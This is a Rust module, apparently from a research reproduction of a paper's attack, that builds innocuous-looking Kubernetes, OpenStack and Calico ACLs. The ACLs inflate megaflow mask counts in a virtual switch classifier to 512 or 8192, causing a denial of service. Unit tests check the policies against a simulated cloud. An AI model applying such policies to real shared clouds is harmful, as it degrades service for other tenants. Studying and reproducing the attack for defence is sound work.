//! Malicious ACL construction.
//!
//! The policies below are indistinguishable from legitimate
//! microsegmentation: "allow my backup server (one host) to reach my
//! pod's service port". What makes them malicious is the *complement*:
//! proving a packet doesn't match a `/32` source requires up to 32
//! megaflow prefix lengths, an exact port another 16, and the products
//! multiply.

use pi_classifier::FlowTable;
use pi_core::key::IPPROTO_TCP;
use pi_core::Field;

use pi_cms::{
    CalicoPolicy, CalicoRule, Cidr, IngressRule, NetworkPolicy, PolicyCompiler, PolicyDialect,
    PortRange, Protocol, SecurityGroup,
};

use crate::covert::{AttackTarget, FieldTarget};

/// Parameters of one policy-injection attack instance.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackSpec {
    /// Which CMS dialect to express the policy in. Calico is required
    /// for the source-port term.
    pub dialect: PolicyDialect,
    /// The whitelisted source block. A host `/32` maximises the IP
    /// factor at 32; shorter prefixes give proportionally fewer masks
    /// (used by the sweep experiments).
    pub allow_src: Cidr,
    /// Exact destination port term (× 16 masks), if used.
    pub dst_port: Option<u16>,
    /// Exact source port term (× 16 masks) — Calico only.
    pub src_port: Option<u16>,
}

impl AttackSpec {
    /// The paper's 512-mask attack: 2 rules matching "solely on the IP
    /// source address and the L4 destination port" (§2), valid in every
    /// dialect.
    pub fn masks_512(dialect: PolicyDialect) -> Self {
        AttackSpec {
            dialect,
            allow_src: Cidr::host([203, 0, 113, 7]),
            dst_port: Some(443),
            src_port: None,
        }
    }

    /// The paper's full-blown 8192-mask DoS: Calico's source-port match
    /// added (§2: "if the CMS allows us to also filter on the L4 source
    /// port (the Kubernetes networking plugin Calico does this)").
    pub fn masks_8192() -> Self {
        AttackSpec {
            dialect: PolicyDialect::Calico,
            allow_src: Cidr::host([203, 0, 113, 7]),
            dst_port: Some(443),
            src_port: Some(4444),
        }
    }

    /// The analytical mask count this spec should inject:
    /// ∏ per-field factors (ip prefix length × 16 per exact port).
    pub fn predicted_masks(&self) -> u64 {
        let mut n = self.allow_src.len.max(1) as u64;
        if self.dst_port.is_some() {
            n *= 16;
        }
        if self.src_port.is_some() {
            n *= 16;
        }
        n
    }

    /// The flow table the CMS compiles [`AttackSpec::build_policy`]
    /// into — what lands on the attacker's own vport.
    pub fn compile(&self) -> FlowTable {
        self.build_policy().compile()
    }

    /// Builds the dialect-specific policy object.
    ///
    /// # Panics
    /// Panics if `src_port` is set for a non-Calico dialect — those CMS
    /// APIs cannot express it (that is the paper's point), so asking is
    /// a programming error.
    pub fn build_policy(&self) -> MaliciousAcl {
        match self.dialect {
            PolicyDialect::Kubernetes => {
                assert!(
                    self.src_port.is_none(),
                    "Kubernetes NetworkPolicy cannot match source ports"
                );
                MaliciousAcl::K8s(NetworkPolicy {
                    name: "allow-backup-host".into(),
                    ingress: vec![IngressRule {
                        from: vec![self.allow_src],
                        ports: match self.dst_port {
                            Some(p) => vec![(Protocol::Tcp, Some(p))],
                            None => vec![(Protocol::Tcp, None)],
                        },
                    }],
                })
            }
            PolicyDialect::OpenStack => {
                assert!(
                    self.src_port.is_none(),
                    "OpenStack security groups cannot match source ports"
                );
                MaliciousAcl::OpenStack(SecurityGroup {
                    name: "allow-backup-host".into(),
                    rules: vec![pi_cms::SgRule {
                        remote: self.allow_src,
                        protocol: Protocol::Tcp,
                        dst_ports: self.dst_port.map(PortRange::single),
                    }],
                })
            }
            PolicyDialect::Calico => MaliciousAcl::Calico(CalicoPolicy {
                name: "allow-backup-host".into(),
                rules: vec![CalicoRule {
                    protocol: Protocol::Tcp,
                    src_nets: vec![self.allow_src],
                    src_ports: self.src_port.map(PortRange::single).into_iter().collect(),
                    dst_ports: self.dst_port.map(PortRange::single).into_iter().collect(),
                }],
            }),
        }
    }

    /// Builds the covert-sequence target for an attacker pod at
    /// `pod_ip` (host byte order) protected by this spec's policy.
    pub fn build_target(&self, pod_ip: u32) -> AttackTarget {
        let mut fields = vec![FieldTarget {
            field: Field::IpSrc,
            value: self.allow_src.addr as u64,
            prefix_len: self.allow_src.len,
        }];
        if let Some(p) = self.dst_port {
            fields.push(FieldTarget {
                field: Field::TpDst,
                value: p as u64,
                prefix_len: 16,
            });
        }
        if let Some(p) = self.src_port {
            fields.push(FieldTarget {
                field: Field::TpSrc,
                value: p as u64,
                prefix_len: 16,
            });
        }
        AttackTarget {
            dst_ip: pod_ip,
            proto: IPPROTO_TCP,
            fields,
        }
    }
}

/// A policy object in whichever dialect the CMS speaks.
#[derive(Debug, Clone)]
pub enum MaliciousAcl {
    /// Kubernetes NetworkPolicy.
    K8s(NetworkPolicy),
    /// OpenStack security group.
    OpenStack(SecurityGroup),
    /// Calico policy.
    Calico(CalicoPolicy),
}

impl MaliciousAcl {
    /// Compiles the policy with the dialect's own [`PolicyCompiler`]
    /// entry point (the table [`MaliciousAcl::apply`] would install,
    /// without the cloud's admission step).
    pub fn compile(&self) -> FlowTable {
        match self {
            MaliciousAcl::K8s(p) => PolicyCompiler.compile_k8s(p),
            MaliciousAcl::OpenStack(p) => PolicyCompiler.compile_security_group(p),
            MaliciousAcl::Calico(p) => PolicyCompiler.compile_calico(p),
        }
    }

    /// Submits the policy through the CMS for the tenant's own pod,
    /// returning the compiled table — the "injection" step.
    pub fn apply(
        &self,
        cloud: &pi_cms::Cloud,
        tenant: pi_cms::TenantId,
        pod: pi_cms::PodId,
    ) -> Result<pi_cms::cloud::CompiledPolicy, pi_cms::CmsError> {
        match self {
            MaliciousAcl::K8s(p) => cloud.apply_k8s_policy(tenant, pod, p),
            MaliciousAcl::OpenStack(p) => cloud.apply_security_group(tenant, pod, p),
            MaliciousAcl::Calico(p) => cloud.apply_calico_policy(tenant, pod, p),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_specs_predict_paper_numbers() {
        assert_eq!(
            AttackSpec::masks_512(PolicyDialect::Kubernetes).predicted_masks(),
            512
        );
        assert_eq!(
            AttackSpec::masks_512(PolicyDialect::OpenStack).predicted_masks(),
            512
        );
        assert_eq!(AttackSpec::masks_8192().predicted_masks(), 8192);
    }

    #[test]
    fn every_dialect_compiles_to_whitelist_plus_default_deny() {
        for spec in [
            AttackSpec::masks_512(PolicyDialect::Kubernetes),
            AttackSpec::masks_512(PolicyDialect::OpenStack),
            AttackSpec::masks_8192(),
        ] {
            assert_eq!(spec.compile().len(), 2);
        }
    }

    #[test]
    fn single_field_spec() {
        let spec = AttackSpec {
            dialect: PolicyDialect::Kubernetes,
            allow_src: "10.0.0.0/8".parse().unwrap(),
            dst_port: None,
            src_port: None,
        };
        assert_eq!(spec.predicted_masks(), 8); // the Fig. 2 toy at scale
    }

    #[test]
    fn policies_build_in_each_dialect() {
        match AttackSpec::masks_512(PolicyDialect::Kubernetes).build_policy() {
            MaliciousAcl::K8s(p) => {
                assert_eq!(p.ingress.len(), 1);
                assert_eq!(p.ingress[0].ports, vec![(Protocol::Tcp, Some(443))]);
            }
            _ => panic!("wrong dialect"),
        }
        match AttackSpec::masks_512(PolicyDialect::OpenStack).build_policy() {
            MaliciousAcl::OpenStack(sg) => {
                assert_eq!(sg.rules[0].dst_ports, Some(PortRange::single(443)));
            }
            _ => panic!("wrong dialect"),
        }
        match AttackSpec::masks_8192().build_policy() {
            MaliciousAcl::Calico(p) => {
                assert_eq!(p.rules[0].src_ports, vec![PortRange::single(4444)]);
            }
            _ => panic!("wrong dialect"),
        }
    }

    #[test]
    #[should_panic(expected = "cannot match source ports")]
    fn k8s_with_src_port_is_rejected() {
        AttackSpec {
            dialect: PolicyDialect::Kubernetes,
            allow_src: Cidr::host([1, 1, 1, 1]),
            dst_port: Some(80),
            src_port: Some(1000),
        }
        .build_policy();
    }

    #[test]
    fn target_fields_mirror_spec() {
        let t = AttackSpec::masks_8192().build_target(0x0a000042);
        assert_eq!(t.dst_ip, 0x0a000042);
        assert_eq!(t.fields.len(), 3);
        assert_eq!(t.fields[0].field, Field::IpSrc);
        assert_eq!(t.fields[0].prefix_len, 32);
        assert_eq!(t.fields[1].field, Field::TpDst);
        assert_eq!(t.fields[2].field, Field::TpSrc);
    }

    #[test]
    fn policy_passes_real_cms_validation() {
        let mut cloud = pi_cms::Cloud::new();
        let attacker = cloud.add_tenant();
        let node = cloud.add_node();
        let pod = cloud.add_pod(attacker, node).unwrap();
        let acl = AttackSpec::masks_8192().build_policy();
        let compiled = acl.apply(&cloud, attacker, pod).unwrap();
        // Innocuous: two rules (one allow + default deny).
        assert_eq!(compiled.table.len(), 2);
    }
}
